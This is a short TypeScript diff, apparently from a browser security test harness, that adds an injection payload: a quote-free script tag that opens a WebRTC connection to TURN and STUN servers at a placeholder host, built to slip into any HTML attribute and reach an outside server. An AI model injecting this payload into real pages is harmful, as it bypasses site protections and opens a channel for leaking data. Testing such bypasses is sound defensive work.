@@ -27,3 +27,7 @@ export const frame = (address: string, answer = ''): Pick<Attack, 'page' | 'scri
 
 /** What a frame shows that can be read, or nothing. */
 export const textOfFrame = 'try { return f.contentDocument?.body?.textContent ?? "" } catch { return "" }'
+
+/** A script that calls elsewhere by WebRTC, over lines and without: with no quotes in it, so that it fits into any attribute. */
+export const CALL =
+  '<script>try { const c = new RTCPeerConnection({ iceServers: [{ urls: [`turn:{elsewhere}?transport=tcp`, `turn:{elsewhere}`], username: `a`, credential: `b` }, { urls: `stun:{elsewhere}` }] }); c.createDataChannel(`x`); c.createOffer().then((o) => c.setLocalDescription(o)) } catch {}</script>'
